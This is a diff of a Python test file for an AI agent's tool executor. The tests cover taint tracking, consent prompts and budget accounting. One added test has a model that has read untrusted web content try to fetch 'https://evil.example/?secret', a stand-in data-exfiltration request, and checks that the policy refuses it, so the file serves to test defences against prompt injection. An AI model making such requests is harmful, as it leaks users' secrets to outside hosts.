@@ -10,13 +10,17 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from component.agent.protocol import Caller, Incoming, ToolResult, Waiting
-from component.execution.tools import ToolRoad, tool_name
-from component.models.protocol import ToolCall
+from component.agent.protocol import Caller, ToolResult, Waiting
+from component.budget.protocol import Payer, TurnBudget
+from component.execution.tools import ToolExecutor, tool_name
+from component.models.messages import ToolCall
 from component.policy import Rule
 from component.policy.flows import Flow, Flows
 from component.policy.taint import Taint
-from component.skills import AnySkill, Context, Output, SkillError, SkillResult, skill
+from component.skills import Context, Output, Skill, SkillError, SkillResult, skill
+from component.skills.model_answers import ModelQuestion
+from component.tasks.protocol import Call, CallerContext
+from tests.component.agent.world import message
 from tests.component.audit.book import Book
 from tests.component.handlers.world import ALICE, World
 from tests.component.router.wire import AGENT, until
@@ -53,19 +57,19 @@ def says_no() -> str:
 
 
 class Desk:
-    """Tools over the road of a world."""
+    """Tools over the executor of a world."""
 
     def __init__(
         self,
-        *skills: AnySkill,
+        *skills: Skill,
         flows: Sequence[Flow] = (),
         timeout_s: float | None = None,
         **options: Any,
     ) -> None:
         self.world = World(skills, **options)
         self.book = Book()
-        self.tools = ToolRoad(
-            *(self.world.road, self.world.room, self.world.view, Flows(flows), self.book),
+        self.tools = ToolExecutor(
+            *(self.world.executor, self.world.service, self.world.view, Flows(flows), self.book),
             timeout_s,
         )
 
@@ -76,16 +80,14 @@ class Desk:
         return await self.tools.call(caller or a_caller(), call_id, name, text)
 
     async def decide(self, task: str, value: Any) -> None:
-        (question,) = await self.world.room.open_questions(WHO.bare, AT)
+        (question,) = await self.world.service.open_questions(WHO.bare, AT)
         assert question.task == task
-        await self.world.room.decide(WHO.bare, AT, Decision(id=question.id, value=value))
+        await self.world.service.decide(WHO.bare, AT, Decision(id=question.id, value=value))
 
 
 def a_caller(turn: str = "t1", agent: str = "assistant", **more: Any) -> Caller:
-    said = Incoming(
-        id=turn, agent="assistant", principal=WHO.bare, requester=WHO, target=AT, body=""
-    )
-    return Caller(incoming=said, agent=agent, turn=turn, **more)
+    said = message(turn, "Do it.", WHO.bare, sender=WHO, target=AT, taint=None)
+    return Caller(request=said, agent=agent, turn=turn, **more)
 
 
 # -- what is offered ------------------------------------------------------------------------------
@@ -127,8 +129,13 @@ def test_each_skill_has_a_name_of_its_own_that_providers_take(skills: list[str])
 
 
 def test_what_may_run_beside_others() -> None:
-    desk = Desk(add, read_file)
+    @skill(name="set_light", idempotent=True)
+    def set_light(on: bool) -> str:
+        return str(on)
+
+    desk = Desk(add, read_file, set_light)
     assert desk.tools.together(a_caller(), "add")
+    assert not desk.tools.together(a_caller(), "set_light"), "the last one counts"
     assert not desk.tools.together(a_caller(), "read_file")
     assert not desk.tools.together(a_caller(), "nosuch")
 
@@ -254,7 +261,7 @@ async def test_a_call_that_is_not_made_is_on_record_all_the_same() -> None:
         ("capability", "look.up", "network:api.example:443"),
         ("capability", "add", "not among the skills of this agent"),
         ("tool-call", ("made_up" * 20)[:64], "no such tool"),
-        ("tool-call", "add", "a call that cannot be read"),
+        ("tool-call", "add", "a call that cannot be decoded"),
     ]
     who = (str(WHO.bare), "assistant", "t1", "refused")
     assert {(e.principal, e.agent, e.trace, e.outcome) for e in desk.book.events} == {who}
@@ -459,4 +466,110 @@ async def test_a_rule_can_let_it_through_or_refuse_it() -> None:
         refused = await desk.call("tell", "0.b", peer, text="x")
     assert isinstance(refused, ToolResult)
     assert refused.is_error
-    assert desk.book.of("taint") == [("refuse", "tell")]
+    assert desk.book.of("taint") == [("allow", "tell"), ("refuse", "tell")]
+
+
+@skill(read_only=True, taint="web", capabilities=["network"])
+def fetch(url: str) -> str:
+    return f"the page {url}"
+
+
+@skill(read_only=True, taint="web", capabilities=["network:api.example:443"])
+def found(words: str) -> str:
+    return f"found {words}"
+
+
+async def test_a_model_that_has_read_strangers_fetches_what_the_person_named_only() -> None:
+    desk = Desk(fetch)
+    misled = a_caller(taints=frozenset(("web",)), said=("Read www.a.example, please.",))
+    async with desk.world.running():
+        named = await desk.call("fetch", "0.a", misled, url="https://www.a.example/")
+        assert named == ToolResult("the page https://www.a.example/", taint="web")
+        refused = await desk.call("fetch", "0.b", misled, url="https://evil.example/?secret")
+    assert isinstance(refused, ToolResult)
+    assert refused.is_error
+    assert "url" in refused.content
+    assert "evil" not in refused.content
+    assert [
+        (event.outcome, event.detail) for event in desk.book.events if event.kind == "taint"
+    ] == [
+        ("allow", "web: the model has chosen no value"),
+        ("refuse", "web: chosen by the model: url"),
+    ]
+
+
+async def test_what_a_service_has_returned_may_go_back_to_it() -> None:
+    desk = Desk(found, look_up, fetch)
+    results = (("look__up", "about tides, moons"), ("gone", "suns"), ("fetch", "winds"))
+    misled = a_caller(taints=frozenset(("web",)), results=results)
+    async with desk.world.running():
+        again = await desk.call("found", "0.a", misled, words="moons")
+        assert again == ToolResult("found moons", taint="web")
+        for number, words in enumerate(("moon", "suns", "winds", "tides moons")):
+            other = await desk.call("found", f"0.b{number}", misled, words=words)
+            assert isinstance(other, ToolResult)
+            assert other.is_error
+        # The page came from some host, so its words could go to any.
+        page = await desk.call("fetch", "0.c", misled, url="winds")
+        assert isinstance(page, ToolResult)
+        assert page.is_error
+
+
+async def test_a_person_is_asked_about_what_a_service_returned_where_something_changes() -> None:
+    @skill(name="post", destructive=False, capabilities=["network:api.example:443"])
+    def post(to: str, text: str) -> str:
+        return f"posted {text} to {to}"
+
+    desk = Desk(post, look_up)
+    misled = a_caller(
+        taints=frozenset(("web",)),
+        said=("Post hello to me.",),
+        results=(("look__up", "about you"),),
+    )
+    async with desk.world.running():
+        assert await desk.call("post", "0.a", misled, to="me", text="hello") == ToolResult(
+            "posted hello to me", taint="web"
+        )
+        waiting = await desk.call("post", "0.b", misled, to="you", text="hello")
+        assert isinstance(waiting, Waiting)
+        assert waiting.question
+        (question,) = await desk.world.service.open_questions(WHO.bare, AT)
+        assert question.chosen == ("to",), "the question says so"
+
+
+# -- what a skill asks a model --------------------------------------------------------------------
+
+
+@skill(read_only=True, capabilities=["llm"])
+async def mood_of(text: str, context: Context) -> str:
+    """Say how somebody feels."""
+    return str((await context.llm(text, {"type": "object"}))["mood"])
+
+
+@pytest.mark.parametrize(
+    ("more", "pays"), [({}, "t1"), ({"agent": "assistant/helper-1", "paid_by": "t0"}, "t0")]
+)
+async def test_the_turn_that_pays_for_a_turn_pays_for_what_skills_ask(
+    more: dict[str, Any], pays: str
+) -> None:
+    desk = Desk(mood_of)
+    asked: list[Call] = []
+
+    async def ask_model(call: Call, _task: str, question: ModelQuestion) -> str:
+        asked.append(call)
+        question.check('{"mood": "good"}')
+        return '{"mood": "good"}'
+
+    payer = Payer("principal", "boss@b.example")
+    caller = a_caller(**more)
+    said = msgspec.structs.replace(caller.request, payer=payer, budget_usd=0.5)
+    caller = msgspec.structs.replace(caller, request=said)
+    async with desk.world.running():
+        desk.world.service.ask_model = ask_model
+        result = await desk.call("mood_of", caller=caller, text="Great!")
+    assert isinstance(result, ToolResult)
+    assert result.content == "good"
+    context = asked[0].caller_context
+    assert context.budget == TurnBudget(pays, payer, 0.5)
+    encoded = msgspec.json.encode(context)
+    assert msgspec.json.decode(encoded, type=CallerContext) == context
